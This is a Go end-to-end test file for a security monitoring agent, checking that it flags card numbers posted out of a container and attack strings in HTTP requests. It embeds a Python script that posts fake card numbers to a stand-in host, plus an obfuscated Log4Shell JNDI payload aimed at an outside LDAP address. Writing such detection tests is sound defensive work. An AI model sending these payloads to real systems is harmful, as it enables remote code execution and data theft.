// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"bytes"
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/collector/view"
	"github.com/holdfast-project/holdfast/tests/lab"
	"github.com/holdfast-project/holdfast/tests/rig"
	"github.com/holdfast-project/holdfast/tests/wait"
)

// postProgram is a program for Python that makes so many numbers that pass the check of payment cards, posts them to an
// address, whoever answers there, and prints them: nothing but what is sent has them.
const postProgram = `import ssl, sys, urllib.request
def card(n):
    digits = "453212%09d" % (700100 + 37 * n)
    total = 0
    for i, d in enumerate(reversed(digits)):
        d = int(d) * (2 if i % 2 == 0 else 1)
        total += d - 9 if d > 9 else d
    return digits + str((10 - total % 10) % 10)
cards = [card(n) for n in range(int(sys.argv[2]))]
body = "".join("card %s\n" % c for c in cards).encode()
context = ssl._create_unverified_context()
answer = urllib.request.urlopen(urllib.request.Request(sys.argv[1], data=body), context=context).read().decode()
print(answer, *cards)`

// TestSensitiveDataIsTold has a container send card numbers, plain and over TLS: the alert names who sent what where, and
// neither it nor anything else that leaves the agent holds a number.
func TestSensitiveDataIsTold(t *testing.T) {
	const address = "203.0.113.9"
	r := startRig(t, rig.Config{AgentArgs: []string{"--dlp-mode", "monitor"}})
	if err := r.Lab.Load(t.Context(), lab.Python); err != nil {
		t.Fatal(err)
	}
	webSink(t, r, address)
	pod := runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "sender"})
	c := run(t, pod, lab.ContainerConfig{Name: "app", Image: lab.PythonImage, Command: []string{"sleep", "100000"}})
	var numbers []string
	for _, way := range []struct{ url, source string }{{"http://" + address + "/orders?a=1", "packet"}, {"https://" + address + "/orders", "openssl"}} {
		t.Run(way.source, func(t *testing.T) {
			var told *view.Alert
			told, numbers = sendCards(t, r, c, way.url, way.source)
			f := told.Finding
			if f.Class != "card" || f.Distinct < 5 || len(f.Masked) == 0 || f.Part != "body" || f.Method != "POST" || f.Path != "/orders" || f.Direction != "outbound" {
				t.Errorf("finding %+v", f)
			}
			if told.Workload.Name != "sender" || told.Container.Name != "app" || !strings.Contains(told.Process.Exe, "python") || told.Event.Network.RemoteAddress != address {
				t.Errorf("alert %+v", told)
			}
			t.Log(told.Output)
		})
	}
	holdsNone(t, r.Dir, numbers)
}

// sendCards has a container send card numbers until there is an alert that was found in that source, and gives it with the
// numbers.
func sendCards(t *testing.T, r *rig.Rig, c *lab.Container, url, source string) (told *view.Alert, numbers []string) {
	t.Helper()
	err := wait.For(t.Context(), time.Minute, func() error {
		// Programs have their probes soon after they begin; the first may be quicker.
		got, err := c.Exec(t.Context(), "python3", "-c", postProgram, url, "12")
		words := strings.Fields(got.Stdout)
		if err != nil || len(words) != 13 || words[0] != "taken" {
			t.Fatalf("%v: %+v", err, got)
		}
		numbers = words[1:]
		alerts, err := r.Alerts(t.Context(), "--rule", "Sensitive data sent")
		if err != nil {
			return err
		}
		at := slices.IndexFunc(alerts, func(a view.Alert) bool { return a.Finding != nil && a.Finding.Source == source })
		if at < 0 {
			return fmt.Errorf("none of %d alerts is of %s", len(alerts), source)
		}
		told = &alerts[at]
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return told, numbers
}

// holdsNone checks that no file below a directory holds one of the words.
func holdsNone(t *testing.T, dir string, words []string) {
	t.Helper()
	for _, word := range words {
		for _, path := range holders(t, dir, word) {
			t.Errorf("%s holds %s", path, word)
		}
	}
}

// holders are the files below a directory that hold a word.
func holders(t *testing.T, dir, word string) []string {
	t.Helper()
	var paths []string
	err := filepath.WalkDir(dir, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(path)
		if bytes.Contains(text, []byte(word)) {
			paths = append(paths, path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return paths
}

// TestAttackInARequestIsTold sends requests to a web server in a container: ordinary ones, of which nothing is told, and one
// that holds an attack.
func TestAttackInARequestIsTold(t *testing.T) {
	r := startRig(t, rig.Config{AgentArgs: []string{"--waf-mode", "monitor"}})
	if err := r.Lab.Load(t.Context(), lab.Nginx); err != nil {
		t.Fatal(err)
	}
	pod := runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "web"})
	run(t, pod, lab.ContainerConfig{Name: "nginx", Image: lab.NginxImage})
	if err := pod.AwaitPort(t.Context(), lab.NginxPort); err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Transport: &http.Transport{DialContext: r.Lab.DialContext, DisableKeepAlives: true}}
	get := func(agent string) {
		t.Helper()
		q, err := http.NewRequestWithContext(t.Context(), http.MethodGet, fmt.Sprintf("http://%s/?q=tea+and+o%%27brien", net.JoinHostPort(pod.IPs[0].String(), fmt.Sprint(lab.NginxPort))), nil)
		if err != nil {
			t.Fatal(err)
		}
		q.Header.Set("User-Agent", agent)
		answer, err := client.Do(q)
		if err != nil {
			t.Fatal(err)
		}
		_ = answer.Body.Close()
	}
	for range 20 {
		get("Mozilla/5.0 (X11; Linux x86_64)")
	}
	var told []view.Alert
	err := wait.For(t.Context(), time.Minute, func() error {
		get("${${lower:j}ndi:ldap://203.0.113.66/a}")
		var err error
		told, err = r.Alerts(t.Context(), "--rule", "Attack in a request")
		if err == nil && len(told) == 0 {
			err = fmt.Errorf("no alert")
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range told {
		f := a.Finding
		if f == nil || f.Class != "log4shell" || f.Part != "header" || !strings.EqualFold(f.Name, "user-agent") || !f.Accepted || a.Container.Name != "nginx" || a.Process.Name != "nginx" {
			t.Errorf("alert %+v, finding %+v", a, f)
		}
		t.Log(a.Output)
	}
}
